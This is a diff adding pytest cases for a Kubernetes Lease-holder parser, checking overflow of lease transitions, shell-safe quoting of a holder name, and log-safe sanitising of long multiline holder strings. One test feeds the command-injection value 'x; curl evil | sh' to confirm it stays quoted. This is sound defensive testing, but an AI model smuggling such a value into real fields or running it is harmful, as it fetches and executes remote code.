@@ -151,6 +151,7 @@ def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
         pytest.param(held(ME), EARLIER, 3, id="a renewal"),
         pytest.param(held(BEFORE), STAMP, 4, id="a change"),
         pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="nonsense"),
+        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API takes no more"),
     ],
 )
 def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
@@ -161,3 +162,13 @@ def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, t
     if found is None:
         assert (made.body["kind"], made.body["metadata"]["name"]) == ("Lease", "rayspan-0123456789-east")
         assert made.body["metadata"]["namespace"] == names.SYSTEM_NAMESPACE
+
+
+def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
+    found = move(held("x; curl evil | sh"))
+    assert isinstance(found, Held) and found.why.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
+
+
+def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
+    found = move(held("x\nERROR all is lost" + "x" * 5000))
+    assert isinstance(found, Held) and found.holder.isprintable() and "\n" not in found.why and len(found.holder) < 1100
